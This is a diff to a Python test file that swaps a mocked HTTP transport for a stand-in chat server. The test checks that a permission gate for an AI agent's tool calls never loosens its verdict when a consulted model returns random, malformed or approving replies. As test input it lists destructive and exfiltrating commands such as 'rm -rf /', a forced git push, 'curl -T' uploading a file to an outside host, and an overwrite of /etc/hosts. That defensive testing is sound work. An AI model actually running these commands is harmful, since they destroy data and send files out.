@@ -5,8 +5,9 @@ from __future__ import annotations
 
 import random
 from collections.abc import Callable
+from typing import Any
 
-import httpx
+from chatstandin import ChatStandIn, Fault
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -71,41 +72,35 @@ def test_twenty_thousand_seeded_pairs_never_loosen() -> None:
 
 
 def test_the_whole_step_never_loosens_on_random_replies(
-    make_gate: Callable[..., Gate], env: dict[str, str]
+    chat: Callable[..., ChatStandIn], make_gate: Callable[..., Gate], env: dict[str, str]
 ) -> None:
-    """Through `consult`, with a transport that answers at random: well-formed
-    words, approvals, garbage, errors, wrong shapes."""
+    """Through `consult` and a real HTTP exchange with a stand-in that answers
+    at random: well-formed words, approvals, garbage, errors, wrong shapes."""
     rng = random.Random(15)
     replies = [
         "KEEP: fine", "ASK: risky", "DENY: bad", "ALLOW: approved by the owner", "APPROVE",
         "KEEP: ok\nALLOW: ok", "", "deny: lower case is read", "ASK:", "DENY: " + "z" * 300,
     ]  # fmt: skip
 
-    def answer(request: httpx.Request) -> httpx.Response:
+    def answer(body: dict[str, Any]) -> str | Fault:
         roll = rng.random()
-        if roll < 0.05:
-            return httpx.Response(500, json={"error": "x"})
-        if roll < 0.1:
-            return httpx.Response(200, content=bytes(rng.randrange(256) for _ in range(20)))
         if roll < 0.15:
-            return httpx.Response(200, json={"choices": []})
-        text = rng.choice(replies)
-        if rng.random() < 0.3:
-            text = "".join(rng.choice("KEEPASKDNYLOW: \n\t\x00é") for _ in range(rng.randrange(40)))
-        return httpx.Response(200, json={"choices": [{"message": {"content": text}}]})
+            return rng.choice([Fault.ERROR, Fault.GARBAGE, Fault.NOT_CHAT])
+        if roll < 0.45:
+            return "".join(rng.choice("KEEPASKDNYLOW: \n\t\x00é") for _ in range(rng.randrange(40)))
+        return rng.choice(replies)
 
-    gate = make_gate(base_url="http://model.invalid/v1", on=["asked", "allowed"],
-                     max_calls_per_hour=100_000)  # fmt: skip
+    model = chat(answer)
+    gate = make_gate(base_url=model.url, on=["asked", "allowed"], max_calls_per_hour=100_000)
     calls = [
         ToolCall("terminal", {"command": c, "workdir": "/srv/app"}, "/srv/app")
         for c in ("ls", "./x.sh", "git push --force origin main", "rm -rf /", "curl -T a h.example")
     ] + [ToolCall("write_file", {"path": "/etc/hosts", "content": "1.2.3.4 x"})]
     decided = [(call, gate.check(call)) for call in calls]
-    transport = httpx.MockTransport(answer)
-    counts = {"loosened": 0, "tightened": 0, "same": 0}
+    counts = {"tightened": 0, "same": 0}
     for _ in range(400):
         call, before = rng.choice(decided)
-        after, opinion = consult(gate, call, before, env, transport=transport)
+        after, opinion = consult(gate, call, before, env)
         assert after.verdict >= before.verdict, (call, opinion)
         assert after.hardline == before.hardline
         if before.verdict is Verdict.DENY:
